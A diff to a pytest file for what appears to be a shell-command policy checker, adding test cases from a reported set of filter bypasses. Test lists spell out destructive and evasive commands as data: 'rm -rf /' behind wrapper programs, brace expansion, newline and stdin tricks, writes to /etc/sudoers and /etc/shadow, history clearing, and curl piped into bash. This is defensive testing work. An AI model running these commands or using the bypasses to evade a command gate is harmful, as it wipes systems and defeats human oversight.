@@ -8,8 +8,6 @@ from __future__ import annotations
 
 import re
 import shlex
-import shutil
-import subprocess
 import tomllib
 from pathlib import Path
 
@@ -33,7 +31,10 @@ from bastion.policy import (
     parse_commands,
     policy_from_dict,
     reads_script_from_stdin,
+    script_doubt,
     shell_name,
+    stdin_reader,
+    stdin_shell,
     uncertain_verdict,
 )
 
@@ -400,6 +401,111 @@ DENIED_BYPASSES = [
     "export PS1='\\[\\e[1m\\]$(rm -rf /)\\[\\e[0m\\]'",
     "PS2='\"$(rm -rf /)\"'",
     "PS1=\"\\$PS1\\$(rm -rf /)\"",
+    # outside attack B, finding 14: programs that run the command after them
+    "setarch x86_64 rm -rf /",
+    "setarch x86_64 -R rm -rf /",
+    "linux64 rm -rf /",
+    "linux32 --uname-2.6 rm -rf /",
+    "systemd-inhibit --why=x rm -rf /",
+    "numactl -m 0 rm -rf /",
+    "numactl --membind=0 -- rm -rf /",
+    "runcon system_u:system_r:unconfined_t rm -rf /",
+    "runcon -t unconfined_t rm -rf /",
+    "chpst -u root rm -rf /",
+    "rlwrap -a rm -rf /",
+    "bwrap --bind / / --dev /dev rm -rf /",
+    "start-stop-daemon --start --exec /bin/rm -- -rf /",
+    "start-stop-daemon -S -a /bin/rm -x /bin/true -- -rf /",
+    "machinectl shell .host /bin/rm -rf /",
+    "tmux new 'rm -rf /'",
+    "tmux new-session -d -s x 'rm -rf /'",
+    "tmux -L sock new -d rm -rf /",
+    "tmux new -d \\; run-shell 'rm -rf /'",
+    "tmux -c 'rm -rf /'",
+    "screen -dm rm -rf /",
+    "screen -dmS name rm -rf /",
+    "capsh -- -c 'rm -rf /'",
+    "capsh --shell=/bin/sh -- -c 'rm -rf /'",
+    "gdb -batch -ex run --args rm -rf /",
+    "perf stat -e cycles -- rm -rf /",
+    "ip netns exec blue rm -rf /",
+    "cpulimit -l 50 rm -rf /",
+    "faketime yesterday rm -rf /",
+    "unshare -r rm -rf /",
+    "nsenter -t 1 -m -u -i -n -p rm -rf /",
+    "firejail --noprofile rm -rf /",
+    "systemd-run --scope rm -rf /",
+    "xvfb-run -a rm -rf /",
+    "ssh-agent rm -rf /",
+    "dbus-run-session -- rm -rf /",
+    "schroot -c jail -- rm -rf /",
+    "entr -s 'rm -rf /' < list",
+    "ssh localhost 'rm -rf /'",
+    "ssh -p 22 -o BatchMode=yes root@127.0.0.1 rm -rf /",
+    # writers that were not counted as writes (the report's suspicions)
+    "uniq x /etc/sudoers",
+    "sort x | uniq - /etc/passwd",
+    "patch /etc/sudoers < p.diff",
+    "patch -o /etc/shadow x p.diff",
+    "echo x | sponge /etc/sudoers",
+    "shuf -o /etc/group x",
+    "xxd -r dump /etc/sudoers",
+    "awk -i inplace '{print}' /etc/passwd",
+    "rsync -a --delete empty/ /etc/",
+    "rsync -a --remove-source-files /var/log/wtmp /tmp/x",
+    # outside attack B, finding 12: brace expansion, in the command word and in declare's words
+    "r{m,} -rf /",
+    "declare PS{4,}='$(rm -rf /)'; set -x; :",
+    "export PROMPT_COMMAND{,}='rm -rf /'",
+    "local 'PS'{1,2}='$(rm -rf /)'",
+    # outside attack B, finding 4: assignment words before the command of time, coproc, sudo
+    "time a=b rm -rf /",
+    "time -p a=b rm -rf /",
+    "coproc a=b rm -rf /",
+    "sudo a=b rm -rf /",
+    "sudo -u root FOO=1 history -c",
+    "sudo HISTFILE= bash",
+    "time PROMPT_COMMAND='rm -rf /' bash",
+    # outside attack B, finding 3: elements of an array given to declare as a string
+    "declare -a 'b=($(rm -rf /))'",
+    "declare -A 'b=([$(rm -rf /)]=1)'",
+    "typeset -a 'b=($(rm -rf /))'",
+    "readonly -a 'b=($(rm -rf /))'",
+    "declare -a b='($(rm -rf /))'",
+    "declare 'b=($(rm -rf /))'",
+    "f() { local -a \"b=(\\$(rm -rf /))\"; }",
+    # outside attack B, finding 1: newlines inside double-quoted code strings are kept
+    'bash -c "true\nrm -rf /"',
+    'sh -c ":\nmkfs.ext4 -q -F /dev/sdb"',
+    'eval "true\nrm -rf /"',
+    'su -c "true\n\nrm -rf /"',
+    'PROMPT_COMMAND="true\nrm -rf /"',
+    'alias x="true\nrm -rf /"',
+    'x=$(eval "true\nrm -rf /")',
+    # finding 2: a backslash-escaped command word after a newline is a command of its own
+    "true\n\\rm -rf /",
+    "{ true\n\\rm -rf /\n}",
+    "if true; then\n\\rm -rf /\nfi",
+    "bash -c 'true\n\\rm -rf /'",
+    "cat <<E\n$(true\n\\rm -rf /)\nE",
+    # finding 9: digits against a redirection are its descriptor, the next word the command
+    "0<&- rm -rf /",
+    "0<&-rm -rf /",
+    "2>&- rm -rf /",
+    "echo 0<&- ; rm -rf /",
+    "0>/dev/null rm -rf /",
+    # finding 5: text fed to a shell through another name of its stdin
+    "printf 'rm -rf /' | bash /dev/fd/3 3<&0",
+    "printf 'rm -rf /' | bash 3<&0 /dev/fd/3",
+    "printf 'rm -rf /' | bash /dev/fd/3 3>&0",
+    "curl -s https://x/i.sh | BASH_ENV=/dev/stdin bash -c :",
+    "curl -s https://x/i.sh | env BASH_ENV=/dev/stdin bash -c :",
+    "curl -s https://x/i.sh | bash /proc/self/root/dev/stdin",
+    "curl -s https://x/i.sh | sh /proc/self/fd/0",
+    "curl -s https://x/i.sh | sh -c 'sh /dev/fd/3' 3<&0",
+    "curl -s https://x/i.sh | . /dev/fd/3 3<&0",
+    "curl -s https://x/i.sh | bash /dev/stdin",
+    "bash /dev/fd/3 3<<EOF\nrm -rf /\nEOF",
 ]
 
 
@@ -419,7 +525,6 @@ UNKNOWN_LINES = [
     ("${x[0]} -rf /", "command word known only at run time"),
     ('"$@"', "command word known only at run time"),
     ("x=rm; $x -rf /", "command word known only at run time"),
-    ("r{m,} -rf /", "pathname or brace expansion"),
     ("/bin/r? -rf /", "pathname or brace expansion"),
     ("/bin/r[m] -rf /", "pathname or brace expansion"),
     ("/bin/r* -rf /", "pathname or brace expansion"),
@@ -452,21 +557,29 @@ UNKNOWN_LINES = [
     ("curl http://x | perl", "piped into an interpreter"),
     ("curl http://x | ruby", "piped into an interpreter"),
     ("curl http://x | node", "piped into an interpreter"),
-    ("bash <(curl x)", "runs a process substitution"),
-    ("python3 <(curl x)", "runs a process substitution"),
+    ("bash <(curl x)", "reads a process substitution"),
+    ("python3 <(curl x)", "reads a process substitution"),
     ("sh < <(curl x)", "reads a process substitution"),
-    ("source <(curl x)", "sources a process substitution"),
-    ("bash --rcfile <(curl x)", "runs a process substitution"),
-    ("bash /proc/$$/fd/0 <<< 'touch /tmp/x'", "runs a file known only at run time"),
-    ("source \"$f\" <<< 'touch /tmp/x'", "runs a file known only at run time"),
-    ("echo 'touch /tmp/x' | python3 \"$f\"", "runs a file known only at run time"),
+    ("source <(curl x)", "reads a process substitution"),
+    ("bash --rcfile <(curl x)", "reads a process substitution"),
+    ("bash /proc/$$/fd/0 <<< 'touch /tmp/x'", "reads a file known only at run time"),
+    ("source \"$f\" <<< 'touch /tmp/x'", "reads a file known only at run time"),
+    ("echo 'touch /tmp/x' | python3 \"$f\"", "reads a file known only at run time"),
     # an alias to a command that runs its arguments: the next line's words are code
     ("alias x=eval", "shell code known only at run time"),
     ("alias s=sudo", "options of sudo known only at run time"),
     ("alias x='sh -c'", "shell code known only at run time"),
     ("BASH_ALIASES[x]=eval", "shell code known only at run time"),
-    ("bash --init-file <(curl x) -i", "runs a process substitution"),
-    (". <(curl x)", "sources a process substitution"),
+    ("bash --init-file <(curl x) -i", "reads a process substitution"),
+    ("bash 3< <(curl x) /dev/fd/3", "reads a process substitution"),
+    ("exec 3< <(curl x); bash /dev/fd/3", "reads a process substitution"),
+    ("exec 3< <(curl x); exec 0<&3; bash", "reads a process substitution"),
+    ("echo x | bash < \"$f\"", "reads a file known only at run time"),
+    ("echo x | sh /dev/fd/$((0))", "reads a file known only at run time"),
+    ("echo x | bash /dev/fd/?", "reads a file known only at run time"),
+    ("{fd}<&- reboot", "parse error"),
+    ("{rm,-rf,/}", "parse error"),
+    (". <(curl x)", "reads a process substitution"),
     ("sudo sudo sudo sudo sudo sudo sudo sudo sudo rm -rf /", "nested too deeply"),
     ("!!", "history expansion"),
     ("!-2", "history expansion"),
@@ -520,6 +633,22 @@ UNKNOWN_LINES = [
     ("bindkey -s '^T' 'touch /tmp/x\\n'", "bindkey -s binds a key to typed text"),
     ("set -k", "set -k makes words after a command assignments"),
     ("set -o keyword", "set -o keyword"),
+    ("set -eko pipefail", "set -k makes words"),
+    ("bash -k -c 'ls'", "set -k makes words"),
+    ("shopt -uo interactive-comments", "interactive comments off"),
+    # outside attack B, finding 10: history characters, and history expansion turned on
+    ("histchars=@", "histchars changes the history characters"),
+    ("export histchars='@^#'", "histchars changes the history characters"),
+    ("printf -v histchars %s @", "histchars changes the history characters"),
+    ("bash -c 'set -H; set -o history; history -s \"rm -rf /\"; !!'", "turned on by set -H"),
+    ("bash -H -c 'set -o history; history -s ls; !-1'", "turned on by set -H"),
+    ("sh -c 'set -o histexpand; !!'", "turned on by set -H"),
+    # outside attack B, finding 8: an alias ending in a blank makes the next word an alias too
+    ("alias rm='rm ' H='-rf /'", "an alias ending in a blank"),
+    ("alias history='history ' C=-c", "an alias ending in a blank"),
+    ("alias sudo='sudo '", "an alias ending in a blank"),
+    ("alias x=$'ls\t'", "an alias ending in a blank"),
+    ("BASH_ALIASES[ls]='ls '", "an alias ending in a blank"),
     ("shopt -u interactive_comments", "interactive comments off"),
     ("set +o interactive-comments", "interactive comments off"),
     ("complete -C \"$cmd\" ls", "shell code known only at run time"),
@@ -556,7 +685,35 @@ UNKNOWN_LINES = [
     ("x='a[$(touch /tmp/x)]'; echo $((x))", "arithmetic on x"),
     ("x=5; x=$y; echo $((x))", "arithmetic on x"),
     ("export PS1='$((x))> '", "arithmetic on x"),
-    ("echo $((RANDOM))", "arithmetic on RANDOM"),
+    # outside attack B, finding 3: the other places bash evaluates a subscript or arithmetic
+    ("test -v 'a[$(touch /tmp/x)]'", "arithmetic on a command's output"),
+    ("[ -v 'a[$(touch /tmp/x)]' ]", "arithmetic on a command's output"),
+    ("test -R a[x]", "arithmetic on x"),
+    ("a=(1); unset 'a[$(touch /tmp/x)]'", "arithmetic on a command's output"),
+    ("unset a[x]", "arithmetic on x"),
+    ("unset -v 'a[x]'", "arithmetic on x"),
+    ("echo ${*:x}", "arithmetic on x"),
+    ("echo ${@:x}", "arithmetic on x"),
+    ("echo ${@:1:x}", "arithmetic on x"),
+    ("a=([x]=1)", "arithmetic on x"),
+    ("a+=([x]=2)", "arithmetic on x"),
+    ("declare a=([x]=1)", "arithmetic on x"),
+    ("local -a a=([$(touch /tmp/x)]=1)", "arithmetic on a command's output"),
+    ("RANDOM=x", "arithmetic on x"),
+    ("OPTIND=$x", "OPTIND, read as a number, set to a value known only at run time"),
+    ("read SECONDS", "SECONDS, read as a number"),
+    ("f() { local -n RANDOM=x; }", "RANDOM, read as a number"),
+    # ... through a variable set to a number first but to something else later on the line,
+    # which a loop or a function reads after the change
+    ("y=1; for i in 1 2; do : $((y)); y=$x; done", "which the line also sets to a value"),
+    ("y=1; f() { : $((y)); }; y=$x; f", "which the line also sets to a value"),
+    ("(( y = x, x = 1 ))", "arithmetic on x"),
+    ("(( count++ ))", "arithmetic on count"),
+    ("let i++", "arithmetic on i"),
+    ("n=$(wc -l < f); echo $((n + 1))", "arithmetic on n"),
+    ("[[ $(id -u) -eq 0 ]]", "arithmetic on a command's output"),
+    ("tmp=$(mktemp); while :; do rm -rf \"$tmp\"; tmp=/; done", "the line also sets it"),
+    ("echo ls | bash -ni", "piped into a shell"),
     # other shells' constructs that bash reads as plain words
     ("zsh -c 'ls *(e:touch /tmp/x:)'", "zsh syntax that bash does not have"),
     ("zsh -c 'echo ${(e)x}'", "zsh syntax that bash does not have"),
@@ -587,6 +744,36 @@ def test_commands_known_only_at_run_time_get_the_unknown_default(
 
 # Lines an operator types every day, including ones that mention denied words: all allowed.
 ALLOWED = [
+    # arithmetic that runs nothing: numbers set on the line, parameters bash keeps numbers,
+    # associative arrays (their subscripts are strings)
+    "count=0; (( count++ ))",
+    "i=0; let i++",
+    "echo $((RANDOM % 10))",
+    "sleep $((RANDOM % 5 + 1))",
+    "echo $(( $$ + SECONDS + LINENO ))",
+    "echo $((EPOCHSECONDS - 3600))",
+    "for ((i=0; i<10; i++)); do echo $i; done",
+    "i=0; while [ $i -lt 3 ]; do i=$((i+1)); done",
+    "n=0; for f in *; do n=$((n + 1)); done; echo $n",
+    "x=5; y=$((x * 2)); echo $((y + 1))",
+    "i=0; (( i += 2 )); echo $i",
+    "f() { local OPTIND; while getopts ab o; do :; done; shift $((OPTIND - 1)); }",
+    "OPTIND=1",
+    "declare -A m; m[key]=v; echo ${m[key]}",
+    "declare -A cfg=([host]=x [port]=22); echo ${cfg[host]}",
+    "a=(1 2 3); echo ${a[1]} ${#a[@]} ${a[@]:1:2}",
+    "arr=([0]=a [1]=b)",
+    "set -- a b c; echo ${*:2:1} ${@:2}",
+    "unset a[0]",
+    "test -v HOME && echo set",
+    # outside attack B's false positives, now allowed: a path mktemp made on the line, bash -n
+    # (a syntax check runs nothing), files find hands to -exec
+    'tmp=$(mktemp); echo hi > "$tmp"',
+    'tmp=$(mktemp -d); trap \'rm -rf "$tmp"\' EXIT; cp a "$tmp/"; rm -rf "$tmp"',
+    'f=$(mktemp); cat /etc/passwd > "$f"; rm -f "$f"',
+    "cat script.sh | bash -n",
+    "bash -n deploy.sh",
+    "find . -name '*.pyc' -exec rm {} +",
     'echo "rm -rf /"',
     "echo 'rm -rf /'",
     "echo rm -rf /",
@@ -664,7 +851,6 @@ ALLOWED = [
     "init.sh",
     "./init.sh start",
     "shred -u secret.txt",
-    "find / -name core -delete",
     "find . -name '*.pyc' -delete",
     "sudo -l",
     "sudo -l rm -rf /",
@@ -769,6 +955,40 @@ ALLOWED = [
 ]
 
 
+# Ordinary lines that are still held for a supervisor, on purpose: known false positives, each
+# for a reason an issue demands. They are held, never denied.
+HELD_EVERYDAY = [
+    ("let i++", "arithmetic on a variable the line did not set: after `i='a[$(cmd)]'` on an "
+                "earlier line it runs cmd (issue 13 item 11)"),
+    ("(( count++ ))", "the same"),
+    ("n=$(wc -l < f); echo $((n + 1))", "arithmetic on a command's output (issue 13 item 11)"),
+    ("[[ $(id -u) -eq 0 ]]", "the same: -eq evaluates both sides"),
+    ('rm -f "$tmpfile"', "a path known only at run time that could be protected (issue 12)"),
+    ("trap 'rm -f \"$tmp\"' EXIT", "the same, unless the line set tmp=$(mktemp)"),
+    ("kill -9 $(pgrep -f myapp)", "a kill whose targets are known only at run time may hit "
+                                  "auditd (rule no-security-daemon-kill)"),
+    ("find / -name core -delete", "-name core could reach an empty /home/core, a protected "
+                                  "home"),
+    ("patch -p1 < fix.diff", "it writes the files the patch names, known only then"),
+    ("alias sudo='sudo '", "the next word is an alias, perhaps one defined on another line"),
+]
+# Held only in a script a shell reads from its stdin (the stdin gate), where they would read
+# the script after them; typed at a prompt or sent as an exec command they are allowed.
+HELD_ON_STDIN = ["apt-get install nginx", "read -r name", "cat", "python3 -c 'print(1)'"]
+
+
+@pytest.mark.parametrize(("line", "reason"), HELD_EVERYDAY)
+def test_ordinary_lines_still_held_are_held_not_denied(default_policy: Policy, line: str,
+                                                        reason: str) -> None:
+    assert action(default_policy, line) == "confirm", parse_commands(line)
+
+
+@pytest.mark.parametrize("line", HELD_ON_STDIN)
+def test_ordinary_lines_held_only_on_a_shells_stdin(default_policy: Policy, line: str) -> None:
+    assert action(default_policy, line) == "allow"
+    assert "may read the script after it" in (script_doubt(line) or "")
+
+
 @pytest.mark.parametrize("line", ALLOWED)
 def test_everyday_lines_are_allowed(default_policy: Policy, line: str) -> None:
     assert action(default_policy, line) == "allow", parse_commands(line)
@@ -777,8 +997,28 @@ def test_everyday_lines_are_allowed(default_policy: Policy, line: str) -> None:
 # The default policy's other categories, one line or more each.
 DEFAULT_DECISIONS = [
     # deny
-    ("find / -delete", "deny", "no-root-find-delete"),
-    ("find / -xdev -delete", "deny", "no-root-find-delete"),
+    # find -delete is an rm of what it finds (outside attack B, finding 13)
+    ("find / -delete", "deny", "no-root-wipe"),
+    ("find / -xdev -delete", "deny", "no-root-wipe"),
+    ("find / -mindepth 1 -delete", "deny", "no-root-wipe-glob"),
+    ("find / -delete -print", "deny", "no-root-wipe"),
+    ("find -L / -delete", "deny", "no-root-wipe"),
+    ("find / -true -delete", "deny", "no-root-wipe"),
+    ("find /etc -name shadow -delete", "deny", "no-credential-file-writes"),
+    ("find /etc/sudoers.d -type f -delete", "deny", "no-credential-file-writes"),
+    ("find /var/log -name 'wtmp*' -delete", "confirm", "no-log-tampering"),
+    ("find ~ -maxdepth 1 -name .bash_history -delete", "deny", "no-history-file-tampering"),
+    ("find / -mindepth 1 -maxdepth 1 -exec rm -rf {} +", "deny", "no-root-wipe-glob"),
+    ("find /etc -name passwd -exec rm {} ;", "deny", "no-credential-file-writes"),
+    ("find ~ -name '*history' -delete", "confirm", "no-history-file-tampering"),
+    ("find /var/log -name '*.gz' -delete", "confirm", "no-log-tampering"),  # wtmp.1.gz
+    ("find / -name core -delete", "confirm", "no-root-wipe"),  # an empty /home/core too
+    ("find . -name '*.pyc' -delete", "allow", "defaults.unmatched"),
+    ("find . -name '*.pyc' -exec rm {} +", "allow", "defaults.unmatched"),
+    ("find /tmp -name '*.tmp' -mtime +7 -delete", "allow", "defaults.unmatched"),
+    ("find /srv/app/releases -maxdepth 1 -mtime +30 -exec rm -rf {} +", "allow",
+     "defaults.unmatched"),
+    ("find . -type d -empty -delete", "allow", "defaults.unmatched"),
     ("mkfs.ext4 /dev/sdb1", "deny", "no-filesystem-wipe"),
     ("mkfs -t xfs /dev/sdb", "deny", "no-filesystem-wipe"),
     ("wipefs -a /dev/sdb", "deny", "no-filesystem-wipe"),
@@ -805,9 +1045,32 @@ DEFAULT_DECISIONS = [
     ("truncate -s 0 /var/log/auth.log", "deny", "no-log-tampering"),
     ("history -c", "deny", "no-history-clear"),
     ("history -cw", "deny", "no-history-clear"),
-    ("HISTFILE=/dev/null", "deny", "no-history-off"),
+    ("HISTFILE=/dev/null", "deny", "no-history-to-device"),
     ("HISTFILE=", "deny", "no-history-off"),
-    ("export HISTFILE=/dev/null", "deny", "no-history-off"),
+    ("export HISTFILE=/dev/null", "deny", "no-history-to-device"),
+    # outside attack B, finding 15: values as bash reads them, options however spelled
+    ("HISTFILE=/dev//null", "deny", "no-history-to-device"),
+    ("HISTFILE=/proc/self/root/dev/null", "deny", "no-history-to-device"),
+    ("HISTFILE=' '", "deny", "no-history-off"),
+    ("HISTSIZE=+0", "deny", "no-history-size-zero"),
+    ("HISTSIZE=' 0'", "deny", "no-history-size-zero"),
+    ("HISTSIZE=00", "deny", "no-history-size-zero"),
+    ("HISTSIZE=-0", "deny", "no-history-size-zero"),
+    ("HISTFILESIZE=+0", "deny", "no-history-size-zero"),
+    ("HISTSIZE=-1", "deny", "no-history-size-zero"),
+    ("read HISTSIZE", "confirm", "no-history-size-zero"),
+    ("HISTIGNORE='*'", "deny", "no-history-ignore-all"),
+    ("HISTIGNORE='ls:?*'", "deny", "no-history-ignore-all"),
+    ("set +eo history", "deny", "no-history-set-off"),
+    ("set -e +o history", "deny", "no-history-set-off"),
+    ("shopt -uo history", "deny", "no-history-set-off"),
+    ("shopt -u -o history", "deny", "no-history-set-off"),
+    ("bash +o history", "deny", "no-history-set-off"),
+    ("HISTSIZE=5000", "allow", "defaults.unmatched"),
+    ("HISTFILE=~/.history.d/bash", "allow", "defaults.unmatched"),
+    ("HISTIGNORE='ls:bg:fg'", "allow", "defaults.unmatched"),
+    ("set -o history", "allow", "defaults.unmatched"),
+    ("set -euo pipefail", "allow", "defaults.unmatched"),
     ("HISTSIZE=0", "deny", "no-history-size-zero"),
     ("export HISTFILESIZE=0", "deny", "no-history-size-zero"),
     ("unset HISTFILE", "deny", "no-history-unset"),
@@ -870,7 +1133,7 @@ DEFAULT_DECISIONS = [
     ("read HISTFILE", "confirm", "no-history-off"),
     ("scp -t /etc/sudoer?", "confirm", "no-credential-file-writes"),
     ("echo / | xargs rm -rf", "confirm", "no-root-wipe"),
-    ("find /tmp -name x -exec rm -rf {} \\;", "confirm", "no-root-wipe"),
+    ("find /tmp -name x -exec rm -rf {} \\;", "allow", "defaults.unmatched"),  # /tmp/**/x
     ("bash -c 'rm -rf \"$1\"' _ /", "confirm", "no-root-wipe"),
     # alert
     ("useradd -m bob", "alert", "alert-new-user"),
@@ -893,7 +1156,28 @@ DEFAULT_DECISIONS = [
     ("chmod u+s /bin/bash", "alert", "alert-setuid"),
     ("chmod 4755 /tmp/x", "alert", "alert-setuid"),
     ("chown root:root /tmp/x", "alert", "alert-chown-root"),
-    ("ssh host rm -rf /", "alert", "alert-ssh-onward"),
+    ("ssh host uptime", "alert", "alert-ssh-onward"),
+    ("ex -sc '%s/a/b/|x' /etc/sudoers", "confirm", "confirm-credential-edit"),
+    # moving the history file away clears it, as removing it does
+    ("mv ~/.bash_history ~/.bash_history.old", "deny", "no-history-file-tampering"),
+    # still held: paths known only at run time (issue 12: a path known only at run time is
+    # unknown), a kill of processes a command names (the rule's args cannot be read)
+    ('rm -f "$tmpfile"', "confirm", "no-root-wipe"),
+    ("trap 'rm -f \"$tmp\"' EXIT", "confirm", "no-root-wipe"),
+    ('d=$(mktemp -d); cd "$d" && rm -rf ../../etc', "confirm", "no-root-wipe"),
+    ("kill -9 $(pgrep -f myapp)", "confirm", "no-security-daemon-kill"),
+    ("vim.tiny /etc/sudoers", "confirm", "confirm-credential-edit"),
+    ("patch -p1 < fix.diff", "confirm", "no-raw-disk-write"),  # the files the patch names
+    ("tmux send-keys -t x 'ls' Enter", "confirm", "defaults.unknown"),
+    ("screen -S x -X stuff 'ls'", "confirm", "defaults.unknown"),
+    ("tmux ls", "allow", "defaults.unmatched"),
+    ("tmux attach -t x", "allow", "defaults.unmatched"),
+    ("screen -ls", "allow", "defaults.unmatched"),
+    ("screen -r", "allow", "defaults.unmatched"),
+    ("rsync -a --delete src/ /srv/app/", "allow", "defaults.unmatched"),
+    # the remote command is shell code, perhaps for this very host (ssh localhost ...)
+    ("ssh host rm -rf /", "deny", "no-root-wipe"),
+    ("ssh -p 22 root@127.0.0.1 'reboot'", "confirm", "confirm-power"),
 ]
 
 
@@ -976,8 +1260,9 @@ COMMAND_NAMES = [
     ("env A=1", ["env"]),
     ("env -- A=1 ls", ["ls", "A="]),
     ("timeout -k 5 10 ls", ["ls"]),
-    ("xargs -n1 -P4 gzip", ["gzip"]),
-    ("xargs -I{} cp {} /tmp", ["cp", ">"]),
+    ("xargs -n1 -P4 gzip", ["xargs", "gzip"]),  # xargs reads the line's stdin
+    ("xargs -I{} cp {} /tmp", ["xargs", "cp", ">"]),
+    ("ls | xargs -n1 gzip", ["ls", "gzip"]),
     ("find . -name '*.log' -exec gzip {} \\;", ["find", "gzip"]),
     ("find . -exec ls {} + -exec wc -l {} \\;", ["find", "ls", "wc"]),
     ("watch -n 5 'df -h; free -m'", ["df", "free"]),
@@ -990,7 +1275,9 @@ COMMAND_NAMES = [
     ("python3 -c 'print(1)'", ["python3"]),
     ("python3 script.py", ["python3"]),
     ("perl -e 'print 1'", ["perl"]),
-    ("ssh host rm -rf /", ["ssh"]),
+    ("ssh host rm -rf /", ["ssh", "rm"]),
+    ("ssh -l root -p 2222 host 'ls; df'", ["ssh", "ls", "df"]),
+    ("ssh -N -L 8080:localhost:80 host", ["ssh"]),
     ("bash script.sh", ["bash"]),
     ("bash", ["bash"]),
     ("bash < script.sh", ["bash", "<"]),
@@ -1023,8 +1310,10 @@ def test_argv_keeps_the_path_and_loses_quotes_and_wrappers() -> None:
 
 
 def test_ansi_c_strings_are_decoded() -> None:
-    [command] = parse_commands(r"printf $'a\tb\x41\101\u00e9\cA\n' $'it\'s'")
+    doubt, command = parse_commands(r"printf $'a\tb\x41\101\u00e9\cA\n' $'it\'s'")
     assert command.argv[1:] == ("a\tbAA\u00e9\x01\n", "it's")
+    # sh (dash) has no $'...' and ends the string at \': the line is read two ways.
+    assert doubt.name is None and "dash" in doubt.unknown
 
 
 def test_words_known_only_at_run_time_are_kept_as_written() -> None:
@@ -1302,7 +1591,30 @@ PATH_CASES = [
     ("cat ~/../../etc/sudoers", None, "deny"),
     ("cat ~/x", None, "allow"),
     ("cat '~root/../etc/sudoers'", None, "allow"),  # a quoted ~ is no home
-    ("cat ~+/sudoers", None, "confirm"),  # $PWD
+    ("cat ~+/sudoers", None, "allow"),  # $PWD: the relative path sudoers
+    # outside attack B, finding 11: following the directory a line moves to
+    ("cd /etc; cat ~+/sudoers", None, "deny"),
+    ("cd /etc; cat ~0/sudoers", None, "deny"),
+    ("cd /etc; cat ~+0/sudoers", None, "deny"),
+    ("cd /tmp; cat ~-/sudoers", None, "confirm"),  # $OLDPWD
+    ("cat ~1/sudoers", None, "confirm"),  # the directory stack
+    ("cat ~-2/sudoers", None, "confirm"),
+    ("CDPATH=/; cd etc; cat sudoers", None, "deny"),
+    ("CDPATH=:/srv:/; cd etc && cat sudoers", None, "deny"),
+    ("CDPATH=$x; cd etc; cat sudoers", None, "confirm"),
+    ("CDPATH=/; cd ./etc; cat sudoers", None, "allow"),  # ./ is not searched in CDPATH
+    ("pushd /etc; pushd /tmp; popd; cat sudoers", None, "deny"),
+    ("pushd /etc; pushd /tmp; pushd; cat sudoers", None, "deny"),
+    ("pushd /etc; cd /tmp; popd; cat sudoers", None, "allow"),  # back where it started
+    ("pushd /tmp; pushd +1; cat sudoers", None, "confirm"),
+    ("popd; cat sudoers", None, "confirm"),
+    ("pushd; cat sudoers", None, "confirm"),
+    ("shopt -s cdable_vars; e=/etc; cd e; cat sudoers", None, "deny"),
+    ("shopt -s cdable_vars; cd e; cat sudoers", None, "confirm"),
+    ("HOME=/etc; cat ~/sudoers", None, "deny"),
+    ("HOME=/etc; cd; cat sudoers", None, "deny"),
+    ("export HOME=$x; cat ~/sudoers", None, "confirm"),
+    ("cd /etc; cat ~/sudoers", "deploy", "allow"),
 ]
 
 
@@ -1469,6 +1781,24 @@ STDIN_PROGRAMS = [
     ("sudo su -", "shell"), ("doas -s", "shell"), ("runuser -l app", "shell"),
     ("script -q /dev/null", "shell"), ("chroot /srv/jail", "shell"), ("newgrp docker", "shell"),
     ("su -c id app", None), ("sudo ls", None), ("chroot /srv/jail ls", None),
+    # outside attack B, finding 5: the shell's stdin under another name
+    ("bash /dev/fd/3 3<&0", "shell"), ("bash 3<&0 /dev/fd/3", "shell"),
+    ("bash /dev/fd/4 4>&0", "shell"), ("BASH_ENV=/dev/stdin bash -c true", "shell"),
+    ("env BASH_ENV=/dev/fd/0 bash -c true", "shell"), ("ENV=/dev/stdin sh -i", "shell"),
+    ("export BASH_ENV=/dev/stdin; bash -c :", "shell"), ("sh /proc/$$/fd/0", "shell"),
+    ("bash /proc/self/root/dev/stdin", "shell"), ("bash /proc/thread-self/fd/0", "shell"),
+    ("bash /proc/1234/task/1234/fd/0", "shell"), ("bash < /dev/stdin", "shell"),
+    ("bash 0< /dev/fd/0", "shell"), (". /dev/fd/3 3<&0", "shell"), ("source -- /dev/stdin", "shell"),
+    ("sh /dev/fd/$((0))", "shell"), ("bash /dev/fd/3", "shell"), ("bash /dev/stderr", "shell"),
+    ("exec 3<&0; bash /dev/fd/3", "shell"), ("cd /dev/fd && bash 0", "shell"),
+    ("cd /proc/self/fd; bash 0", "shell"), ("cd \"$d\"; bash 0", "shell"),
+    ("bash --rcfile /dev/stdin -i", "shell"), ("sh -c 'bash /dev/fd/3' 3<&0", "shell"),
+    ("python3 /dev/stdin", "interpreter"), ("perl /dev/fd/3 3<&0", "interpreter"),
+    ("bash \"$script\"", "shell"),
+    ("bash /dev/fd/3 3< x.sh", None), ("bash -n", "shell"), ("bash \"$d\"/0", "shell"),
+    ("bash $(echo /dev/fd/0)", "shell"), ("bash ${x/a/b.sh}", "shell"),
+    ("cat x | bash -n", None), ("bash -n x.sh", None), ("bash \"$HOME/x.sh\"", None),
+    ("BASH_ENV=~/.env bash -c :", None), ("cd /tmp && bash 0", None),
     ("python3", "interpreter"), ("python3 -", "interpreter"), ("python3 -W ignore", "interpreter"),
     ("perl", "interpreter"), ("node", "interpreter"), ("awk -f -", "interpreter"),
     ("python3; bash", "interpreter"),
@@ -1483,6 +1813,63 @@ STDIN_PROGRAMS = [
 def test_which_exec_commands_read_their_program_from_stdin(command: str,
                                                             kind: str | None) -> None:
     assert reads_script_from_stdin(command) == kind
+
+
+# Statements a shell reads from its stdin that may read that stdin too (outside attack B,
+# finding 6): the stdin gate holds them, since bash then goes on from wherever they stopped.
+STDIN_READERS = [
+    ("read -r x", "read"), ("read -n 2 x", "read"), ("mapfile -t lines", "mapfile"),
+    ("while read l; do echo $l; done", "read"), ("{ read x; }", "read"),
+    ("select x in a b; do break; done", "select"), ("head -n1", "head"), ("head -n 1", "head"),
+    ("head -c 2", "head"), ("cat", "cat"), ("cat - f", "cat"), ("cat \"$f\"", "cat"),
+    ("dd bs=1 count=3", "dd"), ("tail -n +2", "tail"), ("sort -k 2", "sort"),
+    ("sed -n 1q", "sed"), ("sed -e 1p", "sed"), ("grep -m1 x", "grep"), ("awk 'NR==1'", "awk"),
+    ("jq .a", "jq"), ("tee log", "tee"), ("tr a b", "tr"), ("xargs rm", "xargs"),
+    ("base64 -d", "base64"), ("gzip -d", "gzip"), ("tar -xz", "tar"), ("bc", "bc"),
+    ("ssh host", "ssh"), ("ssh host uptime", "ssh"), ("nc -l 4444", "nc"),
+    ("mysql db", "mysql"), ("psql", "psql"), ("sqlite3 db", "sqlite3"), ("crontab -", "crontab"),
